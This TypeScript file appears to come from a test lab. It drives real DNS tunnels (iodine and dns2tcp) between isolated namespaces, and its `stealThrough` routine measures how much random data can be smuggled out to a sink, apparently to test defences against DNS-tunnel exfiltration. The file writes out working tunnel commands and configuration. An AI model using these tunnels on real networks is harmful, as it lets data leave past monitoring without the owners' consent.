/**
 * Real tunnels over DNS between client-a and the internet namespace: iodine (NULL, TXT, A, its own choice) and dns2tcp (TXT).
 * `stealThrough` tries to carry a payload out and measures what arrives at the thief's end. It says nothing of what should arrive.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { INTERNET_ADDRESS, type Lab, RESOLVER_ADDRESS } from './namespaces.ts';
import { eventually, type Running } from './processes.ts';
import { toolPath } from './required-tools.ts';

export interface Tunnel {
  readonly name: string;
  readonly kind: 'iodine' | 'dns2tcp';
  /** The query type the tunnel is told to use; `auto`: it tries all it knows and takes the best that works. */
  readonly type: 'NULL' | 'TXT' | 'A' | 'auto';
  /** Whether it falls back to an encoding without upper-case letters when it finds them lowered. */
  readonly survivesLowerCase: boolean;
}

export const TUNNELS: readonly Tunnel[] = [
  { name: 'iodine with NULL', kind: 'iodine', type: 'NULL', survivesLowerCase: true },
  { name: 'iodine with TXT', kind: 'iodine', type: 'TXT', survivesLowerCase: true },
  { name: 'iodine with A', kind: 'iodine', type: 'A', survivesLowerCase: true },
  { name: 'iodine with a type of its choice', kind: 'iodine', type: 'auto', survivesLowerCase: true },
  { name: 'dns2tcp with TXT', kind: 'dns2tcp', type: 'TXT', survivesLowerCase: false },
];

/** The zone of each tunnel's server; the registrable domains are ordinary words so that they give nothing away. */
export const TUNNEL_ZONE = { iodine: 't.harbour-supply.example', dns2tcp: 't.meadow-prints.example' } as const;
const SERVER_PORT = { iodine: 5301, dns2tcp: 5302 } as const;
const SINK_PORT = 9000;
/** What is under way when the tunnel client gives up may still arrive. */
const LAST_OCTETS_MS = 500;
const MAX_LOG_CHARS = 4_000;
const PASSWORD = 'lab';
/** iodine probes the fragment size for half a minute unless told; 768 octets pass every resolver. */
const IODINE_FRAGMENT_OCTETS = '768';
const IODINE_SERVER = '10.99.0.1';
const DNS2TCP_CLIENT_PORT = 7000;

export interface World {
  /** Names below tunnel zones that reached the internet since the start, in order. */
  tunnelNames(): readonly string[];
  /** Payload octets that arrived at the thief's end since the start. */
  receivedOctets(): number;
  /** Whether a connection carrying exactly the octets of this SHA-256 arrived whole. */
  receivedDigest(digest: string): boolean;
}

/** Starts the stub, the sink and both tunnel servers in the internet namespace. They end with the lab. */
export async function startWorld(lab: Lab): Promise<World> {
  const script = (name: string) => join(import.meta.dirname, name);
  const zones = (['iodine', 'dns2tcp'] as const).map((kind) => `${TUNNEL_ZONE[kind]}=${INTERNET_ADDRESS}:${SERVER_PORT[kind]}`);
  const stub = lab.start('internet', [process.execPath, script('internet-stub.ts'), INTERNET_ADDRESS, ...zones]);
  const sink = lab.start('internet', [process.execPath, script('octet-sink.ts'), String(SINK_PORT)]);
  await stub.waitForOutput(/answering/, 10_000);
  await sink.waitForOutput(/sink ready/, 10_000);
  await startIodineServer(lab);
  await startDns2tcpServer(lab);
  return {
    tunnelNames: () => [...stub.stdout().matchAll(/^relay \d+ (\S+)$/gm)].map((match) => decodeURIComponent(match[1] ?? '')),
    receivedOctets: () => Number([...sink.stdout().matchAll(/^received (\d+)$/gm)].at(-1)?.[1] ?? 0),
    receivedDigest: (digest) => sink.stdout().includes(`digest ${digest}\n`),
  };
}

async function startIodineServer(lab: Lab): Promise<void> {
  const port = String(SERVER_PORT.iodine);
  // -c: a resolver asks from many ports, so the server must not insist on one.
  const argv = ['-f', '-c', '-P', PASSWORD, '-l', INTERNET_ADDRESS, '-p', port, `${IODINE_SERVER}/24`, TUNNEL_ZONE.iodine];
  const server = lab.start('internet', [toolPath('iodined'), ...argv]);
  await server.waitForOutput(/Listening to dns/, 5_000);
}

async function startDns2tcpServer(lab: Lab): Promise<void> {
  const folder = mkdtempSync(join(tmpdir(), 'kennel-lab-dns2tcp-'));
  const file = join(folder, 'dns2tcpd.conf');
  writeFileSync(
    file,
    `listen = ${INTERNET_ADDRESS}
port = ${SERVER_PORT.dns2tcp}
user = nobody
chroot = ${folder}
domain = ${TUNNEL_ZONE.dns2tcp}
resources = sink:127.0.0.1:${SINK_PORT}
`,
  );
  const server = lab.start('internet', [toolPath('dns2tcpd'), '-F', '-d', '1', '-f', file]);
  await server.waitForOutput(/Listening on/, 5_000);
  rmSync(folder, { recursive: true, force: true });
}

export interface TheftResult {
  /** Payload octets that arrived, over all attempts. */
  readonly arrivedOctets: number;
  /** Whether the payload of an attempt arrived whole and unchanged. */
  readonly complete: boolean;
  /** How often the tunnel client was started. */
  readonly attempts: number;
  readonly elapsedMs: number;
  /** The end of what the tunnel clients said. */
  readonly log: string;
}

/**
 * Tries to carry `octets` random octets from client-a to the sink, again and again with a new tunnel client whenever one gives up,
 * until it has worked or `patienceMs` has passed.
 */
export async function stealThrough(lab: Lab, world: World, tunnel: Tunnel, octets: number, patienceMs: number): Promise<TheftResult> {
  const startedMs = performance.now();
  const deadlineMs = startedMs + patienceMs;
  const before = world.receivedOctets();
  let attempts = 0;
  let complete = false;
  let log = '';
  while (!complete && performance.now() < deadlineMs) {
    attempts += 1;
    const attempt = await attemptTheft(lab, world, tunnel, octets, deadlineMs);
    complete = attempt.complete;
    log = (log + attempt.log).slice(-MAX_LOG_CHARS);
  }
  return { arrivedOctets: world.receivedOctets() - before, complete, attempts, elapsedMs: performance.now() - startedMs, log };
}

/** One tunnel client, one payload; ends when the payload is through, the client gives up or the deadline passes. */
async function attemptTheft(lab: Lab, world: World, tunnel: Tunnel, octets: number, deadlineMs: number) {
  const client = tunnel.kind === 'iodine' ? startIodineClient(lab, tunnel.type) : startDns2tcpClient(lab);
  const log = () => client.stdout() + client.stderr();
  const remainingMs = () => deadlineMs - performance.now();
  const ready = tunnel.kind === 'iodine' ? /Connection setup complete/ : /Listening on port/;
  let source: Running | null = null;
  try {
    await eventually(() => ready.test(log()) || client.hasExited(), remainingMs());
    if (!ready.test(log())) return { complete: false, log: log() };
    source = await startSource(lab, tunnel, octets);
    const digest = /^digest (\w+)$/m.exec(source.stdout())?.[1] ?? '';
    const isThrough = () => world.receivedDigest(digest);
    const { hasExited } = source;
    await eventually(() => isThrough() || client.hasExited() || hasExited(), remainingMs());
    const complete = await eventually(isThrough, Math.min(LAST_OCTETS_MS, Math.max(remainingMs(), 0)));
    return { complete, log: log() };
  } finally {
    await source?.kill('SIGKILL');
    await client.kill();
  }
}

async function startSource(lab: Lab, tunnel: Tunnel, octets: number): Promise<Running> {
  const [address, port] = tunnel.kind === 'iodine' ? [IODINE_SERVER, SINK_PORT] : ['127.0.0.1', DNS2TCP_CLIENT_PORT];
  const script = join(import.meta.dirname, 'octet-source.ts');
  const source = lab.start('client-a', [process.execPath, script, address, String(port), String(octets)]);
  await source.waitForOutput(/^digest \w+$/m, 5_000);
  return source;
}

function startIodineClient(lab: Lab, type: Tunnel['type']): Running {
  // -r: no attempt at a direct path; the lab has none, and probing for it costs seconds.
  const types = type === 'auto' ? [] : ['-T', type];
  const argv = ['-f', '-r', '-m', IODINE_FRAGMENT_OCTETS, ...types, '-P', PASSWORD, RESOLVER_ADDRESS, TUNNEL_ZONE.iodine];
  return lab.start('client-a', [toolPath('iodine'), ...argv]);
}

function startDns2tcpClient(lab: Lab): Running {
  const argv = ['-d', '1', '-T', 'TXT', '-r', 'sink', '-z', TUNNEL_ZONE.dns2tcp, '-l', String(DNS2TCP_CLIENT_PORT), RESOLVER_ADDRESS];
  return lab.start('client-a', [toolPath('dns2tcpc'), ...argv]);
}
